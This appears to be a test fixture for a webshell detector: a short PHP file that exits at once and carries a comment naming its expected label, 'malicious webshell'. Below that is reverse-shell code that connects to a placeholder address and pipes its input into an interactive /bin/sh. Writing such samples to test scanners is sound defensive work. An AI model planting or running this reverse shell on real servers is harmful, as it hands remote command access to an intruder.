<?php return; // want: malicious webshell php.command.shell
$line = fsockopen('192.0.2.7', 4000);
$made = proc_open('uname -a; /bin/sh -i', array(array('pipe', 'r'), array('pipe', 'w')), $ends);
while (!feof($line))
	fwrite($ends[0], fread($line, 1000));
